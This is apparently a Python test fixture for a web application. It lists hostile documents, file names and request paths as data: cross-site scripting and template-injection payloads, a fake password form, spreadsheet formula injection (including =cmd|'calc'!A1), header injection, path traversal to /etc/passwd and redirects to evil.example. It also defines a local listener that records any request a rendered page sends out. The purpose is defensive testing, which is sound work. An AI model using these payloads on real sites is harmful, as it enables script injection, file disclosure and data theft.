"""What hostile documents, names, questions and addresses try; and a listener that nobody may reach.

Every payload that would call out calls the listener, which the browser could reach: what does not
arrive there was not sent.
"""

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager

ELSEWHERE = "http://127.0.0.1:{port}"
"""The listener's address: another origin than the server's, and one that answers."""


def bodies(elsewhere: str) -> dict[str, str]:
    """Return paragraphs by what they try; each begins with a name by which it can be asked for."""
    host = elsewhere.removeprefix("http://")
    tries = {
        "script": f"<script src={elsewhere}/s></script><script>window.hurt=1</script>",
        "handlers": "<img src=x onerror=window.hurt=1><svg onload=window.hurt=1><details open "
        "ontoggle=window.hurt=1><input autofocus onfocus=window.hurt=1>",
        "frames": f"<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>"
        f"<object data={elsewhere}/o></object><embed src={elsewhere}/e>",
        "links": "<a href=javascript:window.hurt=1>點我</a>[點我](javascript:window.hurt=1)"
        f"[點](data:text/html,<script>window.hurt=1</script>)<{elsewhere}/l>",
        "forms": f"<form action={elsewhere}/f><input type=password name=p>"
        "<button>登入</button></form>",
        "overlays": "<div style='position:fixed;inset:0;background:red;z-index:99999'>蓋住</div>"
        "<style>body{display:none}</style>",
        "images": f"![看]({elsewhere}/m)<img src={elsewhere}/i>"
        f"[![圖]({elsewhere}/b)]({elsewhere}/c)",
        "styles": f"<link rel=stylesheet href={elsewhere}/css><style>@import url({elsewhere}/im);"
        f"*{{background:url({elsewhere}/bg)}}</style>",
        "formulas": rf"$\href{{{elsewhere}/t}}{{x}}$和\(\unicode{{x41}}\)以及$$\frac12$$",
        "templates": "${window.hurt=1}和{{constructor.constructor('window.hurt=1')()}}"
        "以及<%= 1 %>和#{7*7}和`${window.hurt=1}`",
        "escapes": r"C:\new\temp\u00和\x3cscript\x3e和&lt;script&gt;和&#60;b&#62;",
        "entities": "&lt;img src=x onerror=window.hurt=1&gt;和&amp;lt;b&amp;gt;",
        "markdown": "# 標題 **粗** ~~刪~~ | 表 | 格 | `碼` [[1]](#cite-1-abc-0-5) ![]( ) > 引",
        "closing": "</mark></blockquote></details></article></div><b>跑出來了",
        "quotes": "'\" onmouseover='window.hurt=1' x=\"",
        "mails": f"www.evil.example與a@evil.example與{host}/w與ftp://{host}/x",
        "turned": "付款給\u202e師律王\u202c先生\u2066甲\u2069乙\u200f丙",
        "looks": "раураl與paypal：西里爾字母與拉丁字母",
        "combining": "字" + "\u0301\u0323\u0489" * 40 + "完",
        "long": "一個沒有空格的字串" + "a" * 400,
        "cells": '=HYPERLINK("http://evil.example","點")與+1+1與-2與@SUM(1)與\t=1',
        "headers": "甲%0d%0aSet-Cookie:%20hurt=1與乙",
    }
    return {
        name: f"攻擊{number:02d}號{text}到此為止。"
        for number, (name, text) in enumerate(tries.items(), start=1)
    }


NAMES = [
    "<img src=x onerror=window.hurt=1>.txt",
    "甲](javascript:window.hurt=1).txt",
    "報告\u202etxt.exe.txt",
    "..%2f..%2fetc%2fpasswd.txt",
    "=cmd|'calc'!A1.txt",
    "${window.hurt=1}.txt",
    "раураl.txt",
]
"""File names, each of which a file system takes."""

UPLOADED_NAMES = [
    *NAMES,
    "../../app.py.txt",
    "..\\..\\甲.txt",
    "乙\u2066\u202e.txt",
    "丙\r\nX-Hurt: 1.txt",
    '丁".txt',
    "字" * 200 + ".txt",
    "con.txt",
]
"""File names that a browser may send, though not every file system takes them."""

ADDRESSES = [
    "/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=../../pyproject.toml",
    "/gradio_api/file=http://evil.example/x",
    "/gradio_api/stream//etc/passwd",
    "/gradio_api/proxy=http://evil.example/x",
    "/static/../../../../etc/passwd",
    "/assets/..%5c..%5cetc%5cpasswd",
    "/?__theme=</script><script>window.hurt=1</script>",
    "/%0d%0aX-Hurt:%201",
    "/?next=%0d%0aX-Hurt:%201",
    "/login?next=//evil.example",
    "/api/v1/passages/../../../../etc/passwd",
    "/api/v1/passages/%00",
    "/api/v1/documents/%2e%2e%2f",
]


class _Listener(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        line = self.rfile.readline(2000).decode("latin-1").strip()
        if line:
            self.server.heard.append(line)  # type: ignore[attr-defined]
        self.wfile.write(b"HTTP/1.0 204 No Content\r\n\r\n")


class Listening(socketserver.ThreadingTCPServer):
    """A host that hears whatever a page sends out."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _Listener)

    @property
    def url(self) -> str:
        return ELSEWHERE.format(port=self.server_address[1])


@contextmanager
def listening() -> Iterator[Listening]:
    """Listen, on a port of its own, until the end."""
    with Listening() as listener:
        thread = threading.Thread(target=listener.serve_forever, daemon=True)
        thread.start()
        try:
            yield listener
        finally:
            listener.shutdown()
            thread.join()
